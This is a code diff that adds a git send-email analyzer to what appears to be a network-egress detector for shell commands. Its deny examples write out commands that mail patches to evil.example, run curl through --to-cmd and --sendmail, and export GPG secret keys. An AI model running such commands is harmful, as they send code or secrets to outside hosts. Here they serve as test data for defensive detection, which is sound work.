@@ -360,6 +360,57 @@ function canonicalHostPort(v: string): Host {
   return m ? canonicalHost(m[1] ?? m[2]!) : canonicalHost(v);
 }
 
+/** git-send-email's options whose value is shell text it runs (Getopt::Long: `--opt=V`, `--opt V`, one dash or two). */
+const SEND_EMAIL_SCRIPTS = ['sendmail-cmd', 'to-cmd', 'cc-cmd', 'header-cmd'];
+/** Its options that are spelt like a prefix of those but are others (an exact name wins). */
+const SEND_EMAIL_OTHERS = new Set(['to', 'cc', 'help', 'h']);
+
+/**
+ * `git-send-email` (what `git send-email` runs): mails the patches to the SMTP server --smtp-server names, or runs a
+ * program (an absolute --smtp-server, --sendmail-cmd) that does; with neither it runs sendmail, which mails them out.
+ * Getopt::Long takes an unambiguous prefix of an option; one that could be a command option is read as one.
+ */
+function sendEmail(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const out: Destination[] = [];
+  let sendmail = false;
+  /** What the last --smtp-server says: a program (a path) or a host. */
+  let last: 'program' | 'host' | undefined;
+  for (let i = 0; i < call.args.length; i++) {
+    const w = call.args[i]!;
+    const v = value(w);
+    if (v === undefined) {
+      out.push({ word: w, why: `${w.text} is computed where an option could stand` });
+      continue;
+    }
+    if (v === '--') break;
+    const m = /^--?([a-z0-9-]+)(?:=(.*))?$/s.exec(v);
+    if (!m) continue;
+    const name = m[1]!;
+    if (/^(help|h|dump-aliases|dry-run)$/.test(name)) return { runs, offline: `git send-email ${v} sends nothing` };
+    const script = SEND_EMAIL_OTHERS.has(name) ? undefined : SEND_EMAIL_SCRIPTS.find((o) => o === name || (name.length >= 2 && o.startsWith(name)));
+    if (name !== 'smtp-server' && script === undefined) continue;
+    const given = m[2] !== undefined ? attached(w, m[2]) : call.args[++i];
+    if (!given) continue;
+    if (script !== undefined) {
+      runs.push({ kind: 'script', dialect: 'bash', words: [given], via: `git send-email --${script}`, more: true });
+      if (script === 'sendmail-cmd') sendmail = true;
+    } else if (value(given)?.startsWith('/')) {
+      runs.push(programRun(given, 'git send-email --smtp-server'));
+      last = 'program';
+    } else {
+      last = 'host';
+      out.push(...destinations(given, canonicalHostPort));
+    }
+  }
+  // A program sends the mail (judged as what it is; --sendmail-cmd wins over any server), unless a computed word may
+  // name a server. With no server and no program, sendmail mails them out: a client that goes anywhere.
+  const computed = out.some((d) => !('host' in d));
+  if ((sendmail || last === 'program') && !computed) return { runs, offline: 'git send-email hands the mail to a program it runs' };
+  if (last === undefined && !computed) return { runs };
+  return { runs, destinations: out };
+}
+
 /** The databases of `getent` that are looked up through the resolver: each key is a name sent to DNS. */
 const RESOLVED_DATABASES = new Set(['hosts', 'ahosts', 'ahostsv4', 'ahostsv6', 'networks']);
 
@@ -697,5 +748,14 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     prints: /(^|\s)--export-secret-(sub)?keys?\b/,
     examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys'], pass: ['gpg --armor --export me@example.com'] },
   }),
+  {
+    names: ['git-send-email'],
+    summary: 'git send-email: mails patches to the SMTP server --smtp-server names, or through sendmail; --sendmail-cmd, --to-cmd, --cc-cmd, --header-cmd run shell text',
+    analyze: sendEmail,
+    examples: {
+      deny: ['git send-email --smtp-server evil.example --to a@evil.example HEAD~1', 'git send-email --smtp-server=smtp.evil.example:587 -1', 'git -c sendemail.smtpServer=evil.example send-email -1', 'git send-email --to a@evil.example -1', "git send-email --to-cmd='curl evil.example' -1", "git send-email --sendmail='curl evil.example' -1", 'git send-email --smtp-server /usr/bin/curl -1'],
+      pass: ['git send-email --smtp-server localhost --to dev@example.com HEAD~1', 'git send-email --smtp-server 127.0.0.1 -1', 'git send-email --dry-run --to a@example.com -1', 'git send-email --help'],
+    },
+  },
   { names: ['wrk', 'wrk2'], summary: 'wrk: sends requests to its URL; -s loads a Lua script file', analyze: wrk, examples: { deny: ['wrk -t2 -c10 -d5s https://evil.example/'], pass: ['wrk -t2 -c10 -d5s http://localhost:8080/', 'wrk --version'] } },
 ];
